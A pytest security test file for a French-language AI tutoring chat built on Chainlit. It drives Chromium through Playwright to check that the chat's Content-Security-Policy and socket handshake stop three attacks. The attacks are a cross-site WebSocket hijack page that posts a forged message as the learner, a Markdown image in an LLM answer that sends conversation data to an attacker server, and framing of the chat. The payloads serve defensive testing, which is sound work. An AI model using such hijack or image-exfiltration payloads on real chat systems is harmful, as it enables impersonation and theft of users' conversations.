"""Attacks that need a browser, in Chromium (Debian's package, through Playwright): a page on another port
of the host using the learner's cookies on the chat's socket, a Markdown image in an answer sending data
away, and framing. The chat itself keeps working under its Content-Security-Policy."""

import os
import shutil
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from fixtures.chat_server import start_chat, wait_for

pytestmark = pytest.mark.real
CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
QUESTION = "Sur combien de mots les LLM sont-ils formés ?"

HIJACK_PAGE = """<!doctype html><html><body><iframe id="chat" src="CHAT_URL" width="600" height="400"></iframe>
<script>
window.log = [];
const ws = new WebSocket("WS_URL/ws/socket.io/?EIO=4&transport=websocket");
ws.onmessage = (e) => {
  window.log.push(e.data);
  if (e.data.startsWith("0{")) {
    ws.send("40" + JSON.stringify({sessionId: crypto.randomUUID(), clientType: "webapp", threadId: null,
                                    userEnv: "{}", chatProfile: null}));
  } else if (e.data.startsWith("40")) {
    ws.send('42["connection_successful"]');
    ws.send("42" + JSON.stringify(["client_message", {message: {id: crypto.randomUUID(), threadId: "",
      name: "learner", type: "user_message", output: "PIRATE : posté depuis une autre page",
      createdAt: new Date().toISOString()}, fileReferences: []}]));
  } else if (e.data === "2") { ws.send("3"); }
};
ws.onerror = () => window.log.push("error");
ws.onclose = () => window.log.push("closed");
</script></body></html>"""


class Attacker:
    """The attacker's web server, on another port of the same host: serves the hijack page and counts the
    requests that reach it (an image fetched from an answer carries data in its URL)."""

    def __init__(self, chat_url):
        self.hits = []
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def do_GET(self):
                attacker.hits.append(self.path)
                body = HIJACK_PAGE.replace("CHAT_URL", chat_url).replace("WS_URL", chat_url.replace("http", "ws"))
                data = body.encode() if self.path.startswith("/page") else b"GIF89a"
                self.send_response(200)
                self.send_header("Content-Type", "text/html" if self.path.startswith("/page") else "image/gif")
                self.end_headers()
                self.wfile.write(data)

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self):
        self.httpd.shutdown()
        self.httpd.server_close()


def launch(p):
    assert os.path.exists(CHROMIUM), "Debian's chromium is required (make test installs it)"
    return p.chromium.launch(executable_path=CHROMIUM, args=[
        "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
        "--disable-component-update", "--disable-sync"])


# Chainlit's page links a web font and KaTeX's style sheet from CDNs: the policy blocks them on purpose (the
# chat runs offline, and learners' browsers contact no third party).
EXPECTED_BLOCKS = ("fonts.googleapis.com", "cdn.jsdelivr.net")


def open_chat(context, url):
    page = context.new_page()
    page.violations = []
    page.on("console", lambda m: page.violations.append(m.text)
            if "Content Security Policy" in m.text and not any(b in m.text for b in EXPECTED_BLOCKS) else None)
    page.goto(url)
    page.get_by_text("Les quatre parties d'un prompt").wait_for(timeout=60_000)
    return page


def ask(page, question):
    page.fill("#chat-input", question)
    page.locator("#chat-submit").click()
    page.get_by_text("Sources :").first.wait_for(timeout=60_000)


@pytest.fixture
def image_server(tmp_path):
    attacker = Attacker(chat_url="")  # the answer's image points at the attacker's server
    reply = (f"Les LLM sont formés sur des milliers de milliards de mots [1]. "
             f"![schéma]({attacker.url}/pixel.gif?d=conversation-secrete)")
    server = start_chat(tmp_path, reply=reply)
    yield server, attacker
    server.stop()
    attacker.close()


def test_an_image_in_an_answer_is_not_fetched(image_server):
    from playwright.sync_api import sync_playwright

    server, attacker = image_server
    with sync_playwright() as p:
        browser = launch(p)
        context = browser.new_context(locale="fr-FR")
        page = open_chat(context, server.url)
        ask(page, QUESTION)
        page.wait_for_timeout(2_000)
        browser.close()
    assert [h for h in attacker.hits if h.startswith("/pixel")] == []
    assert [v for v in page.violations if "pixel.gif" in v]  # blocked by the policy, not by chance
    assert [v for v in page.violations if "pixel.gif" not in v] == []  # and nothing the chat needs


@pytest.fixture
def chat_and_attacker(tmp_path):
    server = start_chat(tmp_path)
    attacker = Attacker(server.url)
    yield server, attacker
    server.stop()
    attacker.close()


def test_a_page_on_another_port_cannot_post_as_the_learner_nor_frame_the_chat(chat_and_attacker):
    from playwright.sync_api import sync_playwright

    server, attacker = chat_and_attacker
    with sync_playwright() as p:
        browser = launch(p)
        context = browser.new_context(locale="fr-FR")
        chat = open_chat(context, server.url)  # the learner's browser now holds the chat's cookies
        ask(chat, QUESTION)
        chat.locator(".element-link").first.click()  # the source opens beside the answer, under the policy
        chat.get_by_text("sous-ensemble des modèles de base", exact=False).first.wait_for(timeout=10_000)
        evil = context.new_page()
        evil.goto(attacker.url + "/page")
        wait_for(lambda: "closed" in evil.evaluate("window.log"), 10)
        log = evil.evaluate("window.log")
        framed = evil.frame_locator("#chat").get_by_text("Les quatre parties d'un prompt")
        framed_count = framed.count()
        browser.close()
    assert not any(entry.startswith("40") for entry in log), log  # the socket.io handshake was refused
    stored = server.db("SELECT \"output\" FROM steps WHERE \"output\" LIKE 'PIRATE%'")
    assert stored == []
    assert framed_count == 0  # frame-ancestors 'none'
    assert chat.violations == []  # the chat itself needs nothing the policy refuses


@pytest.fixture
def chat_only(tmp_path):
    server = start_chat(tmp_path)
    yield server
    server.stop()


def test_a_huge_paste_is_stopped_with_a_note_and_the_chat_stays_connected(chat_only):
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        browser = launch(p)
        page = open_chat(browser.new_context(locale="fr-FR"), chat_only.url)
        page.fill("#chat-input", "a" * 1_100_000)  # over the socket's 1 MB frame: it used to drop the connection
        page.keyboard.press("Enter")
        note = page.locator("#tutor-length-note")
        note.wait_for(timeout=10_000)
        french = note.inner_text()
        page.fill("#chat-input", "What exactly is a prompt and how should I write one? " * 60)
        page.locator("#chat-submit").click()
        page.wait_for_timeout(500)
        english = note.inner_text()
        page.fill("#chat-input", QUESTION)  # a normal question still goes through, on the same connection
        page.locator("#chat-submit").click()
        page.get_by_text("Sources :").first.wait_for(timeout=60_000)
        browser.close()
    assert "trop long" in french and "1 100 000" in french.replace("\u202f", " ").replace("\xa0", " ")
    assert "too long" in english
    stored = chat_only.db("SELECT length(\"output\") FROM steps WHERE \"type\" = 'user_message'")
    assert stored == [(len(QUESTION),)]
